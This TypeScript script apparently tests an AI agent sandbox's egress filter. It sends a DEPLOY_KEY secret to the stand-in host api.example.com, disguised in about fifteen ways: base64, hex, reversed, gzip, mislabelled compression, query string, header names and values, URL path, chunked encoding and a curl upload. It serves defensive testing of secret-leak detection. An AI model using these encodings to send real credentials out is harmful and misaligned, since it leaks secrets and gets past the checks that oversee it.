// A secret of the bottle's own environment, sent to a host that may be reached: in every part of a request, spelled in many ways.
import { spawnSync } from "node:child_process";
import { deflateSync, gzipSync } from "node:zlib";
import { args, get, type Outcome, type Probes, runProbes, tls, way } from "./lib.ts";

const ALLOWED = "api.example.com";
// `exec` begins with an empty environment: there it is what the agent left behind.
const secret = process.env.DEPLOY_KEY ?? args[0] ?? "";
const bytes = Buffer.from(secret);
const at = (name: string) => `/v1/${way}/${name}`;

function send(text: string): Promise<Outcome> {
  return tls({ dial: ALLOWED, sni: ALLOWED }, text);
}

function post(name: string, body: string | Buffer, fields = ""): Promise<Outcome> {
  const text = typeof body === "string" ? body : body.toString("latin1");
  return send(
    `POST ${at(name)} HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close\r\n${fields}Content-Length: ${text.length}\r\n\r\n${text}`,
  );
}

const asking = (name: string, query: string, fields = "") =>
  send(get(`${at(name)}${query}`, ALLOWED).replace("\r\n\r\n", `\r\n${fields}\r\n`));

const probes: Probes = {
  clean: () => post("clean", "nothing to see"),
  body: () => post("body", `here: ${secret}`),
  base64: () => post("base64", Buffer.from(`xx${secret}`).toString("base64")),
  hex: () => post("hex", bytes.toString("hex")),
  reversed: () => post("reversed", [...secret].reverse().join("")),
  dotted: () => post("dotted", [...secret].join(".")),
  json: () => post("json", JSON.stringify({ a: [...bytes] })),
  gzip: () => post("gzip", gzipSync(secret), "Content-Encoding: gzip\r\n"),
  "lying-coding": () => post("lying-coding", deflateSync(secret), "Content-Encoding: gzip\r\n"),
  query: () => asking("query", `?q=${secret}`),
  header: () => asking("header", "", `X-Note: ${secret}\r\n`),
  "header-name": () => asking("header-name", "", `X-${secret}: 1\r\n`),
  path: () => send(get(`${at("path")}/${secret}`, ALLOWED)),
  chunks: () =>
    send(
      `POST ${at("chunks")} HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${[...secret].map((c) => `1\r\n${c}\r\n`).join("")}0\r\n\r\n`,
    ),
  curl: () => {
    const { stdout } = spawnSync(
      "curl",
      ["-sS", "-D", "-", "-F", `file=@-;filename=a.txt`, `https://${ALLOWED}${at("curl")}`],
      { input: secret, encoding: "utf8" },
    );
    const verdict = /^x-bot-bottle-verdict: (\S+)/im.exec(stdout)?.[1] ?? null;
    return { kind: "http", status: Number(/^HTTP\/\S+ (\d+)/.exec(stdout)?.[1] ?? 0), verdict, raw: stdout };
  },
};

await runProbes(probes);
